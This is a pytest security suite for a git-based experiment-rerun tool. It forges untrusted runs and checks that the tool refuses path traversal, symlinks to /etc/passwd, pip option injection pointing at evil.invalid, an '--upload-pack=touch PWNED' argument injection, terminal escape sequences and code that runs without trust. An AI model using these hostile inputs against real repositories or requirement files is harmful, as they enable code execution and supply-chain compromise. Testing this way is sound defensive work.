"""Issue 12: runs from elsewhere are untrusted input.

Each case is crafted the way an adversarial teammate would: git plumbing
(``hash-object``, ``mktree``, ``commit-tree``, ``mktag``, ``update-ref``) in a
real repository, pushed through a real bare remote where that is how the run
would arrive. Every test asserts what must not happen: nothing written
outside our worktree, no option reaching pip, no raw control byte on the
terminal, no forged number passing as recorded, no foreign code executed
without ``--trust``, no faked success.
"""
from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import pytest
import tomli_w

from reliability_support import (
    assert_clean_error, forge_run, git, init_repo, python_cli, rerun_worktrees, tiny_repo, write_tiny_project,
)

#: A raw control byte reaching the terminal: C0 (but newline), DEL, C1, bidi overrides.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
#: Written by the hostile workflow when it runs (it must not, unless trusted).
PWNED = "PWNED"
HOSTILE_WORKFLOW = """
    import os
    from pathlib import Path

    from rerun_git import Workflow

    if os.environ.get("PWNED_AT"):
        Path(os.environ["PWNED_AT"]).joinpath("PWNED").write_text("ran")


    class Fit(Workflow):
        def workflow(self, X_train, X_test, y_train, y_test, output_dir, feature_names):
            model = self.model.fit(X_train, y_train)
            self.evaluate_model(model, X_test, y_test, ["MAE", "R2"], "scores")
"""


# ---------------------------------------------------------------- plumbing
def plumb(repo: Path, *args: str, data: bytes | None = None, env: dict[str, str] | None = None) -> str:
    proc = subprocess.run(["git", *args], cwd=repo, input=data, capture_output=True, check=True,
                          env={**os.environ, **(env or {})})
    return proc.stdout.decode().strip()


def raw_object(repo: Path, kind: str, content: bytes) -> str:
    """Write any bytes as a ``kind`` object (``--literally``: git would refuse some of these headers)."""
    return plumb(repo, "hash-object", "-t", kind, "-w", "--stdin", "--literally", data=content)


def retag(repo: Path, name: str, commit: str, message: str, tagger: str = "Mallory <m@evil.invalid> 1700000000 +0000",
          kind: str = "commit") -> str:
    """Tag ``commit`` as ``run/<name>`` with exactly this ``message`` (``git mktag``, then ``update-ref``)."""
    body = f"object {commit}\ntype {kind}\ntag run/{name}\ntagger {tagger}\n\n{message}".encode()
    try:
        tag = plumb(repo, "mktag", data=body)
    except subprocess.CalledProcessError:  # mktag refuses control bytes in the tagger: write it literally
        tag = raw_object(repo, "tag", body)
    plumb(repo, "update-ref", f"refs/tags/run/{name}", tag)
    return tag


def record_of(repo: Path, run: str) -> dict:
    return tomllib.loads(git(repo, "show", f"run/{run}:.rerun/run.toml"))


def snapshot_commit(repo: Path, base: str, entries: dict[str, tuple[str, bytes]], record: dict | None = None,
                    author: bytes | None = None) -> str:
    """Run ``base``'s tree with ``entries`` (path -> (mode, bytes)) changed and ``record`` in place: a new commit."""
    env = {"GIT_INDEX_FILE": str(repo.parent / "hostile-index")}
    plumb(repo, "read-tree", f"run/{base}^{{commit}}", env=env)
    changes = dict(entries)
    if record is not None:
        changes[".rerun/run.toml"] = ("100644", tomli_w.dumps(record).encode())
    for path, (mode, content) in changes.items():
        blob = plumb(repo, "hash-object", "-w", "--stdin", data=content)
        plumb(repo, "update-index", "--add", "--cacheinfo", f"{mode},{blob},{path}", env=env)
    tree = plumb(repo, "write-tree", env=env)
    os.unlink(env["GIT_INDEX_FILE"])
    ident = author or b"Mallory <m@evil.invalid> 1700000000 +0000"
    return raw_object(repo, "commit", b"tree " + tree.encode() + b"\nauthor " + ident + b"\ncommitter " + ident
                      + b"\n\nrun forged\n")


def run_message(name: str, metrics: dict[str, float], source: str = "none", extra: str = "") -> str:
    headline = " ".join(f"{k}={v:.6g}" for k, v in list(metrics.items())[:3]) or "no metrics"
    lines = [f"run {name}: {headline}", "", extra, f"Rerun-Source: {source}", "Rerun-Dirty: no", "Rerun-Version: 0.1.0"]
    lines += [f"Rerun-Metric: {k}={v!r}" for k, v in metrics.items()]
    return "\n".join(line for line in lines if line is not None) + "\n"


def files_outside(root: Path, skip: Path) -> dict[str, bytes]:
    """Every file under ``root`` but ``skip`` (the git dir), with its bytes."""
    return {str(p): p.read_bytes() for p in root.rglob("*") if p.is_file() and skip not in p.parents}


@pytest.fixture
def based(tmp_path: Path, cli) -> Path:
    """The tiny project, committed, with run ``base`` captured and the user's own ``results/first`` kept."""
    repo = tiny_repo(tmp_path / "repo")
    assert cli("run", "--name", "base", cwd=repo).code == 0
    assert cli("run", "--name", "first", cwd=repo).code == 0
    return repo


# ---------------------------------------------------------------- 1. paths built from a record
@pytest.mark.parametrize("name", ["../../../../repo/results/first", "/tmp/elsewhere/first", "first\n--x"])
def test_a_record_name_never_becomes_a_path(based: Path, tmp_path: Path, cli, name: str) -> None:
    before = files_outside(tmp_path, based / ".git")
    forge_run(based, "evil", mutate=lambda r: r.__setitem__("name", name))
    for argv in (("reproduce", "evil", "--trust"), ("checkout", "evil", str(tmp_path / "co")), ("show", "evil")):
        result = cli(*argv, cwd=based)
        assert_clean_error(result.code, result.err)
        assert "invalid run name" in result.err
    assert files_outside(tmp_path, based / ".git") == before, "nothing written anywhere"
    assert not (tmp_path / "co").exists() and not Path("/tmp/elsewhere").exists()


def test_results_go_under_the_tag_name_and_the_final_line_names_the_tag(based: Path, cli) -> None:
    first = {p: p.read_bytes() for p in (based / "results" / "first").rglob("*") if p.is_file()}
    forge_run(based, "copy", mutate=lambda r: r.__setitem__("name", "first"))  # a valid name, but not its own
    result = cli("reproduce", "copy", "--trust", "--keep-worktree", cwd=based)
    assert result.code == 0, result.err
    assert result.err.splitlines()[-1] == "all 2 metrics match run copy"
    kept = Path(re.search(r"worktree kept at (.+)", result.err).group(1))
    assert (kept / "results" / "copy").is_dir() and not (kept / "results" / "first").exists()
    assert {p: p.read_bytes() for p in (based / "results" / "first").rglob("*") if p.is_file()} == first
    verdict = cli("verify", "copy", cwd=based)
    assert verdict.code == 1 and "the record names the run 'first', its tag 'copy'" in verdict.out


@pytest.mark.parametrize("field, value", [
    ("files", {"../../outside.py": "0" * 64}),
    ("project_path", "/etc"),
    ("datasets", {"tiny.csv": {"filename": "../../../etc/passwd", "sha256": "0" * 64, "size": 1, "embedded": True}}),
    ("workflows", {"g": {"file": ".git/hooks/pre-commit", "class": "Fit"}}),
    ("seed", 2**40),
    ("source_commit", "--upload-pack=touch PWNED"),
])
def test_every_record_value_that_becomes_a_path_or_argument_is_checked_at_parse(based: Path, cli, field: str,
                                                                                value: object) -> None:
    forge_run(based, "bad", mutate=lambda r: r.__setitem__(field, value))
    for argv in (("show", "bad"), ("reproduce", "bad", "--trust"), ("export-env", "bad")):
        result = cli(*argv, cwd=based)
        assert_clean_error(result.code, result.err)
        assert "run/bad:.rerun/run.toml" in result.err
    assert not (based / ".git" / "worktrees").exists()


# ---------------------------------------------------------------- 2. requirements
@pytest.mark.parametrize("packages", [
    {"numpy": "1.26.4\n--extra-index-url http://evil.invalid/simple"},
    {"numpy": "1.26.4 ; python_version > '3'"},
    {"-e git+https://evil.invalid/pkg.git#egg": "1.0"},
    {"numpy": "1.26.4\r-e git+https://evil.invalid/x"},
])
def test_no_option_or_extra_line_reaches_pip(based: Path, tmp_path: Path, cli, packages: dict) -> None:
    def mutate(record: dict) -> None:
        record["env"]["packages"] = {**record["env"]["packages"], **packages}

    forge_run(based, "pins", mutate=mutate)
    result = cli("export-env", "pins", "--include-all", "-o", str(tmp_path / "req.txt"), cwd=based)
    assert_clean_error(result.code, result.err)
    assert not (tmp_path / "req.txt").exists()


def test_exported_requirements_parse_back_as_pins_only(based: Path, tmp_path: Path, cli) -> None:
    from packaging.requirements import Requirement

    result = cli("export-env", "base", "--include-all", "-o", str(tmp_path / "req.txt"), cwd=based)
    assert result.code == 0, result.err
    for line in (tmp_path / "req.txt").read_text().splitlines():
        assert not line.startswith("-"), line
        if line and not line.startswith("#"):
            requirement = Requirement(line)
            assert str(requirement.specifier).startswith("==") and not requirement.url and not requirement.marker


# ---------------------------------------------------------------- 3. the terminal
ESC = "\x1b]0;owned\x07\x1b[2K\r\u202e"


def test_no_raw_control_byte_reaches_the_terminal(based: Path, tmp_path: Path, cli) -> None:
    record = record_of(based, "base")
    record["name"] = "ctl"
    record["message"] = f"note {ESC} with\nlines"
    record["created"] = f"2026 {ESC}"
    record["env"]["python"] = f"3.11{ESC}"
    record["env"]["platform"] = f"Linux{ESC}"
    author = f"Alice{ESC}\x08\x08\x08\x08\x08Mallory <a@x.invalid> 1700000000 +0000".encode()
    commit = snapshot_commit(based, "base", {}, record, author=author)
    retag(based, "ctl", commit, run_message("ctl", {"MAE": 1.0}, source=f"{'a' * 39}{ESC}", extra=f"msg {ESC}"),
          tagger=f"Eve{ESC} <e@x.invalid> 1700000000 +0000")
    outputs = []
    for argv in (("list",), ("list", "--all"), ("show", "ctl"), ("show", "ctl", "--env"), ("log", "-p"),
                 ("diff", "base", "ctl"), ("check-env", "ctl", "-v"), ("reproduce", "ctl"),
                 ("checkout", "ctl", str(tmp_path / "co")), ("verify", "ctl")):
        result = cli(*argv, cwd=based)
        assert "Traceback" not in result.err, (argv, result.err)
        outputs.append((argv, result.out + result.err))
    for argv, text in outputs:
        assert not RAW_CONTROL.search(text), (argv, RAW_CONTROL.findall(text)[:5])
    shown = dict(outputs)[("show", "ctl")]
    assert "\\x1b]0;owned\\x07" in shown and "Alice\\x1b" in shown, "escaped, not dropped"
    assert "origin     from elsewhere (not captured in this clone)" in shown


# ---------------------------------------------------------------- 4. provenance and trust
def test_a_forged_source_trailer_does_not_make_a_run_local(based: Path, cli) -> None:
    head = git(based, "rev-parse", "HEAD").strip()
    record = record_of(based, "base")
    record["name"], record["source_commit"] = "mine", head
    commit = snapshot_commit(based, "base", {"workflows/fit.py": ("100644", HOSTILE_WORKFLOW.encode())}, record)
    record["files"]["workflows/fit.py"] = __import__("hashlib").sha256(HOSTILE_WORKFLOW.encode()).hexdigest()
    commit = snapshot_commit(based, "base", {"workflows/fit.py": ("100644", HOSTILE_WORKFLOW.encode())}, record)
    retag(based, "mine", commit, run_message("mine", {"MAE": 0.3, "R2": 0.99}, source=head),
          tagger="Test User <test@example.invalid> 1700000000 +0000")
    result = cli("reproduce", "mine", cwd=based)
    assert_clean_error(result.code, result.err)
    assert "  origin     from elsewhere (not captured in this clone)" in result.err
    assert "refusing to run its code without --trust" in result.err
    assert "would run  5 Python file(s)" in result.err
    assert not list(based.rglob(PWNED)) and not (based / ".git" / "worktrees").exists()


@pytest.fixture
def shared(tmp_path: Path, cli) -> dict[str, Path]:
    """Theirs captured a run with a workflow that writes PWNED on import and pushed it to a bare remote; ours fetched it."""
    theirs = tiny_repo(tmp_path / "theirs")
    write_tiny_project(theirs, {"workflows/fit.py": HOSTILE_WORKFLOW})
    git(theirs, "commit", "-qam", "hostile workflow")
    assert cli("run", "--name", "theirs", cwd=theirs).code == 0
    (tmp_path / "pwned").mkdir()
    bare = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(theirs, "remote", "add", "origin", str(bare))
    assert cli("push", cwd=theirs).code == 0
    ours = init_repo(tmp_path / "ours")
    write_tiny_project(ours)
    git(ours, "add", ".")
    git(ours, "commit", "-qm", "our project")
    git(ours, "remote", "add", "origin", str(bare))
    fetched = cli("fetch", cwd=ours)
    assert fetched.code == 0, fetched.err
    return {"theirs": theirs, "ours": ours, "bare": bare, "pwned": tmp_path / "pwned"}


def test_a_foreign_run_is_not_executed_without_trust(shared: dict[str, Path], cli, monkeypatch) -> None:
    ours, pwned = shared["ours"], shared["pwned"]
    monkeypatch.setenv("PWNED_AT", str(pwned))
    refused = cli("reproduce", "theirs", cwd=ours)
    assert_clean_error(refused.code, refused.err)
    assert "  origin     fetched from remote origin (not captured in this clone)" in refused.err
    assert not (pwned / PWNED).exists(), "no line of the run's code ran"
    assert rerun_worktrees(ours) == [] and not (ours / ".git" / "worktrees").exists()
    trusted = cli("reproduce", "theirs", "--trust", cwd=ours)
    assert trusted.code == 0, trusted.err
    assert (pwned / PWNED).exists(), "with --trust it runs"


def test_a_trusted_remote_in_rerun_toml_runs_without_the_flag(shared: dict[str, Path], cli, monkeypatch) -> None:
    ours = shared["ours"]
    monkeypatch.setenv("PWNED_AT", str(shared["pwned"]))
    (ours / "rerun.toml").write_text((ours / "rerun.toml").read_text() + '\n[trust]\nremotes = ["origin"]\n')
    result = cli("reproduce", "theirs", cwd=ours)
    assert result.code == 0, result.err
    other = tiny_repo(shared["bare"].parent / "other")  # trusting origin does not trust a run fetched elsewhere
    git(other, "remote", "add", "mirror", str(shared["bare"]))
    assert cli("fetch", "mirror", cwd=other).code == 0
    (other / "rerun.toml").write_text((other / "rerun.toml").read_text() + '\n[trust]\nremotes = ["origin"]\n')
    assert cli("reproduce", "theirs", cwd=other).code == 1


def test_list_all_marks_fetched_runs_after_a_fast_forward(shared: dict[str, Path], cli) -> None:
    ours = shared["ours"]
    assert git(ours, "rev-parse", "rerun/runs").strip() == git(ours, "rev-parse", "run/theirs^{commit}").strip(), \
        "the fetch fast-forwarded our runs branch"
    assert cli("run", "--name", "ours", cwd=ours).code == 0
    listed = cli("list", "--all", "--format", "json", cwd=ours)
    fetched = {item["name"]: item["fetched"] for item in __import__("json").loads(listed.out)}
    assert fetched == {"theirs": True, "ours": False}


def test_show_and_checkout_print_provenance(shared: dict[str, Path], tmp_path: Path, cli) -> None:
    ours = shared["ours"]
    shown = cli("show", "theirs", cwd=ours)
    assert "  origin     fetched from remote origin (not captured in this clone)" in shown.out
    done = cli("checkout", "theirs", str(tmp_path / "look"), cwd=ours)
    assert done.code == 0, done.err
    assert "  origin     fetched from remote origin (not captured in this clone)" in done.out
    assert "  author     Test User <test@example.invalid>" in done.out


# ---------------------------------------------------------------- 5. checkout checks
@pytest.mark.parametrize("entries", [
    {"datasets/evil.csv": ("120000", b"/etc/passwd")},
    {"results": ("120000", b"/tmp")},
    {"../escape.py": ("100644", b"x = 1\n")},
    {".gitattributes": ("100644", b"* filter=evil\n")},
    {"sitecustomize.py": ("100644", b"open('PWNED', 'w')\n")},
])
def test_checkout_refuses_what_reproduce_refuses_and_keeps_the_users_folder(based: Path, tmp_path: Path, cli,
                                                                           entries: dict) -> None:
    record = record_of(based, "base")
    record["name"] = "evil"
    try:
        commit = snapshot_commit(based, "base", entries, record)
    except subprocess.CalledProcessError:  # git itself refuses to index "../escape.py": write the tree by hand
        blob = plumb(based, "hash-object", "-w", "--stdin", data=b"x = 1\n")
        sub = plumb(based, "mktree", data=f"100644 blob {blob}\tescape.py\n".encode())
        tree = raw_object(based, "tree", b"40000 ..\0" + bytes.fromhex(sub))
        commit = raw_object(based, "commit", f"tree {tree}\nauthor M <m@x> 1 +0000\ncommitter M <m@x> 1 +0000\n\nx\n".encode())
    retag(based, "evil", commit, run_message("evil", {"MAE": 1.0}))
    folder = tmp_path / "empty"
    folder.mkdir()
    result = cli("checkout", "evil", str(folder), cwd=based)
    assert_clean_error(result.code, result.err)
    assert folder.is_dir() and not any(folder.iterdir()), "the user's empty folder stays, empty"
    assert not (based / ".git" / "worktrees").exists()
    assert not list(tmp_path.rglob(PWNED))


def test_a_failed_checkout_never_deletes_the_folder_the_user_named(based: Path, tmp_path: Path, cli) -> None:
    # a record whose listed bytes differ from the tree's: refused after git checked it out
    forge_run(based, "lies", mutate=lambda r: r["files"].__setitem__("settings.py", "0" * 64))
    folder = tmp_path / "mine"
    folder.mkdir(mode=0o750)
    result = cli("checkout", "lies", str(folder), cwd=based)
    assert_clean_error(result.code, result.err)
    assert "differs from the bytes the run recorded" in result.err
    assert folder.is_dir() and not any(folder.iterdir()) and (folder.stat().st_mode & 0o777) == 0o750
    assert "lies" not in git(based, "worktree", "list")


# ---------------------------------------------------------------- 6. forged metric lines
def test_a_forged_metric_line_is_flagged_by_list_and_verify(based: Path, cli) -> None:
    commit = git(based, "rev-parse", "run/base^{commit}").strip()
    original = git(based, "cat-file", "tag", "run/base").split("\n\n", 1)[1]
    retag(based, "appended", commit, original.replace("run base:", "run appended:", 1) + "Rerun-Metric: MAE=0.0001\n")
    listed = cli("list", cwd=based)
    assert "run/appended (!)" in listed.out
    assert "warning: run/appended: a Rerun-Metric line is repeated" in listed.err
    assert "run/base (!)" not in listed.out and "run/first (!)" not in listed.out
    verdict = cli("verify", "--all", cwd=based)
    assert verdict.code == 1
    assert "FAIL  run/appended" in verdict.out and "forged Rerun-Metric line" in verdict.out
    assert "ok    run/base" in verdict.out


def test_a_consistent_forgery_passes_list_but_not_verify(based: Path, cli) -> None:
    commit = git(based, "rev-parse", "run/base^{commit}").strip()
    retag(based, "polished", commit, run_message("polished", {"MAE": 0.0001, "R2": 1.0}))
    listed = cli("list", cwd=based)
    assert "MAE=0.0001" in listed.out, "list reads the tag alone: it cannot see this one"
    verdict = cli("verify", "polished", cwd=based)
    assert verdict.code == 1
    assert "metric MAE: the tag claims 0.0001, the record holds" in verdict.out
    assert "the record names the run 'base', its tag 'polished'" in verdict.out


def test_verify_passes_honest_runs(based: Path, cli) -> None:
    verdict = cli("verify", cwd=based)
    assert verdict.code == 0, verdict.out
    assert verdict.err.strip() == "all 2 run(s) verified: tag, commit, record and files agree"


# ---------------------------------------------------------------- 7. faked success
EXITING_WORKFLOW = """
    import os
    import sys

    from rerun_git import Workflow


    class Fit(Workflow):
        def workflow(self, X_train, X_test, y_train, y_test, output_dir, feature_names):
            if os.environ.get("EXIT_HOW", "sys") == "sys":
                sys.exit(0)
            os._exit(0)
"""


@pytest.mark.parametrize("how", ["sys", "os"])
def test_an_exit_in_a_workflow_is_a_failure(tmp_path: Path, how: str) -> None:
    repo = tiny_repo(tmp_path / "repo")
    write_tiny_project(repo, {"workflows/fit.py": EXITING_WORKFLOW})
    git(repo, "commit", "-qam", "exits")
    proc = subprocess.run([sys.executable, "-m", "rerun_git", "run", "--name", "x"], cwd=repo, capture_output=True,
                          text=True, env={**os.environ, "EXIT_HOW": how}, timeout=120)
    assert_clean_error(proc.returncode, proc.stderr)
    assert f"project code called {'sys.exit' if how == 'sys' else 'os._exit'}(0)" in proc.stderr
    assert git(repo, "tag", "-l") == "" and not (repo / "results" / ".x.lock").exists()


def test_an_exit_during_reproduce_is_a_failure(based: Path) -> None:
    workflow = EXITING_WORKFLOW.replace('if os.environ.get("EXIT_HOW", "sys") == "sys":',
                                        'if os.environ.get("EXIT_ON_REPRODUCE"):')
    write_tiny_project(based, {"workflows/fit.py": workflow.replace("os._exit(0)", "pass")})
    git(based, "commit", "-qam", "exits on reproduce")
    assert subprocess.run([sys.executable, "-m", "rerun_git", "run", "--name", "later"], cwd=based).returncode == 0
    proc = subprocess.run([sys.executable, "-m", "rerun_git", "reproduce", "later"], cwd=based, capture_output=True,
                          text=True, env={**os.environ, "EXIT_ON_REPRODUCE": "1"}, timeout=120)
    assert_clean_error(proc.returncode, proc.stderr)
    assert "project code called sys.exit(0) during the run" in proc.stderr
    assert rerun_worktrees(based) == []


def test_a_reproduction_that_compared_no_metric_is_a_failure(based: Path, cli) -> None:
    silent = HOSTILE_WORKFLOW.replace('self.evaluate_model(model, X_test, y_test, ["MAE", "R2"], "scores")', "pass")
    write_tiny_project(based, {"workflows/fit.py": silent})
    git(based, "commit", "-qam", "measures nothing")
    assert cli("run", "--name", "silent", cwd=based).code == 0
    result = cli("reproduce", "silent", cwd=based)
    assert result.code == 1, result.err
    assert "no metric was compared" in result.err.splitlines()[-1]


# ---------------------------------------------------------------- 8. signals and kept worktrees
def test_a_kept_worktree_survives_gc_until_gc_kept(based: Path, cli) -> None:
    result = cli("reproduce", "base", "--keep-worktree", cwd=based)
    assert result.code == 0, result.err
    kept = Path(re.search(r"worktree kept at (.+)", result.err).group(1))
    (kept / "my-notes.txt").write_text("the user's work")
    assert cli("gc", cwd=based).code == 0
    assert cli("reproduce", "first", cwd=based).code == 0
    assert (kept / "my-notes.txt").read_text() == "the user's work", "gc and reproduce keep it"
    swept = cli("gc", "--kept", cwd=based)
    assert swept.code == 0 and f"removed stale or kept worktree {kept}" in swept.out
    assert not kept.exists() and str(kept) not in git(based, "worktree", "list")


WAITING_WORKFLOW = """
    import os
    import time
    from pathlib import Path

    from rerun_git import Workflow


    class Fit(Workflow):
        def workflow(self, X_train, X_test, y_train, y_test, output_dir, feature_names):
            marker = os.environ.get("WAIT_MARKER")
            if marker:
                (output_dir / "partial.txt").parent.mkdir(parents=True, exist_ok=True)
                (output_dir / "partial.txt").write_text("half done")
                Path(marker).write_text("running")
                time.sleep(60)
            model = self.model.fit(X_train, y_train)
            self.evaluate_model(model, X_test, y_test, ["MAE"], "scores")
"""


def _terminate_when_running(argv: list[str], cwd: Path, marker: Path) -> subprocess.CompletedProcess[str]:
    proc = python_cli(*argv, cwd=cwd, env={"WAIT_MARKER": str(marker)})
    try:
        deadline = time.time() + 120
        while not marker.exists():
            assert proc.poll() is None and time.time() < deadline, proc.communicate()
            time.sleep(0.05)
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
    return subprocess.CompletedProcess(argv, proc.returncode, out, err)


def test_sigterm_during_run_exits_143_and_leaves_the_name_usable(tmp_path: Path, cli) -> None:
    repo = tiny_repo(tmp_path / "repo")
    write_tiny_project(repo, {"workflows/fit.py": WAITING_WORKFLOW})
    git(repo, "commit", "-qam", "waits")
    done = _terminate_when_running(["run", "--name", "same"], repo, tmp_path / "running")
    assert done.returncode == 143, done.stderr
    assert "rerun-git: terminated" in done.stderr and "Traceback" not in done.stderr
    assert not (repo / "results" / ".same.lock").exists() and git(repo, "tag", "-l") == ""
    again = cli("run", "--name", "same", cwd=repo)
    assert again.code == 0, again.err
    assert not list((repo / "results").rglob("partial.txt")), "the interrupted run's partial results are gone"


def test_sigterm_during_reproduce_removes_its_worktree(based: Path, tmp_path: Path) -> None:
    write_tiny_project(based, {"workflows/fit.py": WAITING_WORKFLOW})
    git(based, "commit", "-qam", "waits")
    assert subprocess.run([sys.executable, "-m", "rerun_git", "run", "--name", "slow"], cwd=based).returncode == 0
    done = _terminate_when_running(["reproduce", "slow"], based, tmp_path / "running")
    assert done.returncode == 143, done.stderr
    assert rerun_worktrees(based) == []


def test_a_name_locked_by_a_killed_run_is_taken_over(based: Path, cli) -> None:
    (based / "results" / ".fresh.lock").write_text("999999999\n")
    (based / "results" / "fresh").mkdir()
    (based / "results" / "fresh" / "partial.json").write_text("{}")
    result = cli("run", "--name", "fresh", cwd=based)
    assert result.code == 0, result.err
    assert not (based / "results" / "fresh" / "partial.json").exists(), "the dead run's output made way"


# ---------------------------------------------------------------- 9. limits
def test_a_snapshot_blob_over_the_limits_is_never_written(based: Path, cli) -> None:
    big = b"0" * (2 * 1024 * 1024)  # compresses to a few KiB; over the tiny project's embed_datasets_max_mb = 1
    record = record_of(based, "base")
    record["name"] = "bomb"
    record["files"]["datasets/tiny.csv"] = __import__("hashlib").sha256(big).hexdigest()
    record["datasets"]["tiny.csv"].update(sha256=record["files"]["datasets/tiny.csv"], size=len(big))
    commit = snapshot_commit(based, "base", {"datasets/tiny.csv": ("100644", big)}, record)
    retag(based, "bomb", commit, run_message("bomb", {"MAE": 1.0}))
    for argv in (("reproduce", "bomb", "--trust"), ("checkout", "bomb", str(based.parent / "co"))):
        result = cli(*argv, cwd=based)
        assert_clean_error(result.code, result.err)
        assert "over 1 MB ([capture] embed_datasets_max_mb)" in result.err
    assert not (based / ".git" / "worktrees").exists() and not (based.parent / "co").exists()


def test_kept_results_are_capped_by_max_kept_mb(tmp_path: Path, cli) -> None:
    workflow = HOSTILE_WORKFLOW.replace("model = self.model.fit", 'output_dir.mkdir(parents=True, exist_ok=True)\n'
                 '            (output_dir / "big.json").write_text("[" + "0," * 400000 + "0]")\n'
                 "            model = self.model.fit")
    repo = tiny_repo(tmp_path / "repo")
    write_tiny_project(repo, {"workflows/fit.py": workflow,
                              "rerun.toml": "[capture]\nembed_datasets_max_mb = 1\nmax_kept_mb = 0.5\n"})
    git(repo, "commit", "-qam", "big results")
    result = cli("run", "--name", "capped", cwd=repo)
    assert result.code == 0, result.err
    assert "result file(s) not kept: over [capture] max_kept_mb = 0.5" in result.err
    kept = git(repo, "ls-tree", "-r", "--name-only", "run/capped", "--", ".rerun/results").split()
    assert kept and not any(p.endswith("big.json") for p in kept)


def test_an_infinite_value_in_a_dataset_is_a_clean_error(tmp_path: Path, cli) -> None:
    repo = tiny_repo(tmp_path / "repo")
    csv = (repo / "datasets" / "tiny.csv").read_text().splitlines()
    csv[3] = ",".join(["inf"] + csv[3].split(",")[1:])
    (repo / "datasets" / "tiny.csv").write_text("\n".join(csv) + "\n")
    result = cli("run", "--name", "inf", cwd=repo)
    assert_clean_error(result.code, result.err)
    assert "holds an infinite value (row 3)" in result.err


def test_a_metric_name_with_a_control_character_is_refused(based: Path, cli) -> None:
    forge_run(based, "ctlmetric", mutate=lambda r: r.__setitem__("results", {"g/x": {"MAE\x1b[2J": 1.0}}))
    result = cli("show", "ctlmetric", cwd=based)
    assert_clean_error(result.code, result.err)
    assert not RAW_CONTROL.search(result.err)


# ---------------------------------------------------------------- 10. signatures
@pytest.mark.skipif(not __import__("shutil").which("ssh-keygen"), reason="needs ssh-keygen for ssh signing")
def test_signed_runs_follow_the_users_config_and_a_trusted_signer_runs(tmp_path: Path, cli, monkeypatch) -> None:
    key = tmp_path / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key), "-C", "signer"], check=True)
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f"test@example.invalid {(tmp_path / 'key.pub').read_text()}")
    theirs = tiny_repo(tmp_path / "theirs")
    write_tiny_project(theirs, {"workflows/fit.py": HOSTILE_WORKFLOW})
    git(theirs, "commit", "-qam", "marker workflow")
    for name, value in (("gpg.format", "ssh"), ("user.signingKey", str(key) + ".pub"), ("tag.gpgSign", "true"),
                        ("commit.gpgSign", "true")):
        git(theirs, "config", name, value)
    assert cli("run", "--name", "signed", cwd=theirs).code == 0
    git(theirs, "config", "--unset", "tag.gpgSign")
    git(theirs, "config", "--unset", "commit.gpgSign")
    assert cli("run", "--name", "unsigned", cwd=theirs).code == 0
    assert "-----BEGIN SSH SIGNATURE-----" in git(theirs, "cat-file", "tag", "run/signed")
    assert "-----BEGIN SSH SIGNATURE-----" not in git(theirs, "cat-file", "tag", "run/unsigned")
    assert "gpgsig" in git(theirs, "cat-file", "commit", "run/signed^{commit}")
    assert git(theirs, "for-each-ref", "--format=%(refname)", "refs/tags") == "refs/tags/run/signed\nrefs/tags/run/unsigned\n"
    assert cli("verify", cwd=theirs).code == 0, "a signed tag still verifies"

    bare = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(theirs, "remote", "add", "origin", str(bare))
    assert cli("push", cwd=theirs).code == 0
    ours = tiny_repo(tmp_path / "ours")
    git(ours, "remote", "add", "origin", str(bare))
    git(ours, "config", "gpg.ssh.allowedSignersFile", str(allowed))
    assert cli("fetch", cwd=ours).code == 0
    (ours / "rerun.toml").write_text((ours / "rerun.toml").read_text() + '\n[trust]\nsigners = ["test@example.invalid"]\n')
    monkeypatch.setenv("PWNED_AT", str(tmp_path))
    good = cli("reproduce", "signed", "--verify-signature", cwd=ours)
    assert good.code == 0, good.err
    assert '  signature  good: Good "git" signature for test@example.invalid' in good.err
    unsigned = cli("reproduce", "unsigned", cwd=ours)
    assert unsigned.code == 1 and "refusing to run its code without --trust" in unsigned.err
    required = cli("reproduce", "unsigned", "--verify-signature", "--trust", cwd=ours)
    assert_clean_error(required.code, required.err)
    assert "run/unsigned has no good signature" in required.err
